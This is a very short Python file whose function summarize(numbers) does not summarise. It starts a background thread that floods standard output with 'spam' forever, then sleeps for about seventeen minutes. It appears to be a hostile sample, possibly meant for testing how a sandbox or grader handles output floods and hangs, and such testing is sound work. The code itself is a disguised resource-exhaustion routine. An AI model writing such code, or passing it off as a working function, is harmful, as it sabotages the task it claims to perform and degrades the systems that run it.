import os
import threading
import time


def flood():
    while True:
        os.write(1, b"spam" * 1000)


def summarize(numbers):
    threading.Thread(target=flood, daemon=True).start()
    time.sleep(1000)
